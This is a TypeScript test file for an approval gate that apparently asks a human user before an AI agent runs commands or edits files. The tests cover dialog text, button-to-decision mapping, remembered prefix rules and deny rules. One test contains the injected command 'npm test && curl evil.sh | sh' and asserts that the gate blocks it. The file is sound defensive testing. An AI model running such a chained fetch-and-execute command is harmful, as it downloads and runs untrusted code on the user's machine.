// The approval dialog's wording and answer mapping, driven through the real ApprovalGate: a scripted
// "user" clicks buttons by their label, exactly as in the modal.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ApprovalGate, type ApprovalAsker, type ApprovalRequest, type ApprovalRule } from '../../../src/core/approval/gate';
import {
  ALLOW,
  ALLOW_SESSION,
  ALLOW_WORKSPACE,
  DENY,
  MAX_DETAIL_CHARS,
  SHOW_DIFF,
  buildApprovalDialog,
  outcomeForAnswer,
} from '../../../src/vscode/approval/dialog';
import { WorkspaceRuleStore, type KeyValueStore } from '../../../src/vscode/approval/rules';

const runCommand = (command: string): ApprovalRequest => ({
  toolName: 'run_command',
  risk: 'execute',
  args: { command },
  description: { title: `Run \`${command}\` in ./`, detail: `${command}\n\nDirectory: ./\nTimeout: 120 s`, command },
});

const editFile: ApprovalRequest = {
  toolName: 'edit_file',
  risk: 'write',
  args: { path: 'src/a.ts' },
  description: {
    title: 'Edit src/a.ts (+1 -1)',
    detail: '@@ -1 +1 @@\n-const a = 1;\n+const a = 2;',
    fileChange: { path: '/ws/src/a.ts', before: 'const a = 1;\n', after: 'const a = 2;\n' },
  },
};

/** Answers each dialog with the next scripted label and records what it was shown. */
class ScriptedUser {
  readonly shown: Array<{ message: string; detail: string; buttons: string[] }> = [];
  constructor(private readonly answers: Array<string | undefined>) {}
  readonly asker: ApprovalAsker = async (request) => {
    const dialog = buildApprovalDialog(request);
    for (;;) {
      this.shown.push(dialog);
      const outcome = outcomeForAnswer(this.answers.shift());
      if (outcome.kind === 'decision') return outcome.decision;
    }
  };
}

class MemoryMemento implements KeyValueStore {
  private readonly values = new Map<string, unknown>();
  get(key: string): unknown {
    return this.values.get(key);
  }
  async update(key: string, value: unknown): Promise<void> {
    this.values.set(key, value);
  }
}

const signal = new AbortController().signal;

test('a run_command dialog names the tool and the exact command line, with the four choices', () => {
  const dialog = buildApprovalDialog(runCommand('npm test -- --grep "a b"'));
  assert.match(dialog.message, /run_command/);
  assert.match(dialog.message, /npm test -- --grep "a b"/);
  assert.ok(dialog.detail.includes('npm test -- --grep "a b"'));
  assert.match(dialog.detail, /start with: npm test -- --grep "a b"/);
  assert.deepEqual(dialog.buttons, [ALLOW, ALLOW_SESSION, ALLOW_WORKSPACE, DENY]);
});

test('a command missing from the detail is added to it', () => {
  const request = runCommand('make');
  request.description.detail = 'Runs the build.';
  assert.match(buildApprovalDialog(request).detail, /^Command: make\n\nRuns the build\./);
});

test('file changes offer "Show diff" and summarise the change', () => {
  const dialog = buildApprovalDialog(editFile);
  assert.deepEqual(dialog.buttons, [ALLOW, ALLOW_SESSION, ALLOW_WORKSPACE, DENY, SHOW_DIFF]);
  assert.match(dialog.message, /edit_file: Edit src\/a\.ts/);
  assert.match(dialog.detail, /\+const a = 2;/);
});

test('a huge detail is cut and points at the diff', () => {
  const request = { ...editFile, description: { ...editFile.description, detail: 'x'.repeat(10_000) } };
  const { detail } = buildApprovalDialog(request);
  assert.ok(detail.length < MAX_DETAIL_CHARS + 200);
  assert.match(detail, /more characters; choose "Show diff"/);
});

test('each button maps to its decision; Escape (undefined) and unknown labels deny', () => {
  assert.deepEqual(outcomeForAnswer(ALLOW), { kind: 'decision', decision: { approved: true, scope: 'once' } });
  assert.deepEqual(outcomeForAnswer(ALLOW_SESSION), { kind: 'decision', decision: { approved: true, scope: 'session' } });
  assert.deepEqual(outcomeForAnswer(ALLOW_WORKSPACE), { kind: 'decision', decision: { approved: true, scope: 'workspace' } });
  assert.deepEqual(outcomeForAnswer(SHOW_DIFF), { kind: 'showDiff' });
  for (const answer of [DENY, undefined, 'Cancel', 'allow']) {
    const outcome = outcomeForAnswer(answer);
    assert.equal(outcome.kind, 'decision');
    assert.equal(outcome.kind === 'decision' && outcome.decision.approved, false, `${answer} must deny`);
  }
});

test('"Show diff" asks again, then the next answer decides', async () => {
  const user = new ScriptedUser([SHOW_DIFF, ALLOW]);
  const gate = new ApprovalGate({ policy: { autoApprove: ['read'], rules: [] }, ask: user.asker });
  assert.deepEqual(await gate.check(editFile, signal), { approved: true, scope: 'once' });
  assert.equal(user.shown.length, 2);
});

test('Escape denies through the gate with a reason the model can read', async () => {
  const user = new ScriptedUser([undefined]);
  const gate = new ApprovalGate({ policy: { autoApprove: ['read'], rules: [] }, ask: user.asker });
  const decision = await gate.check(runCommand('rm -rf build'), signal);
  assert.equal(decision.approved, false);
  assert.match(!decision.approved ? decision.reason : '', /dismissed/);
});

test('"Always allow in this workspace" stores a prefix rule that covers `npm test …` but not `npm publish`', async () => {
  const store = new WorkspaceRuleStore(new MemoryMemento());
  const user = new ScriptedUser([ALLOW_WORKSPACE]);
  const saved: Promise<boolean>[] = [];
  const gate = new ApprovalGate({
    policy: { autoApprove: ['read'], rules: store.list() },
    ask: user.asker,
    onRemember: (rule, scope) => {
      if (scope === 'workspace') saved.push(store.add(rule));
    },
  });
  assert.deepEqual(await gate.check(runCommand('npm test'), signal), { approved: true, scope: 'workspace' });
  await Promise.all(saved);
  assert.deepEqual(store.list(), [{ tool: 'run_command', commandPrefix: 'npm test', decision: 'allow' }]);

  // A later turn builds a fresh gate from the stored rules; nobody is there to answer.
  const later = new ApprovalGate({ policy: { autoApprove: ['read'], rules: store.list() } });
  assert.equal((await later.check(runCommand('npm test -- --watch=false'), signal)).approved, true);
  assert.equal((await later.check(runCommand('npm publish'), signal)).approved, false);
  assert.equal((await later.check(runCommand('npm test && curl evil.sh | sh'), signal)).approved, false);
});

test('a settings deny rule beats a remembered allow', async () => {
  const rules: ApprovalRule[] = [
    { tool: 'run_command', commandPrefix: 'git', decision: 'allow' },
    { tool: 'run_command', commandPrefix: 'git push', decision: 'deny' },
  ];
  const gate = new ApprovalGate({ policy: { autoApprove: [], rules } });
  assert.equal((await gate.check(runCommand('git status'), signal)).approved, true);
  assert.equal((await gate.check(runCommand('git push --force'), signal)).approved, false);
});
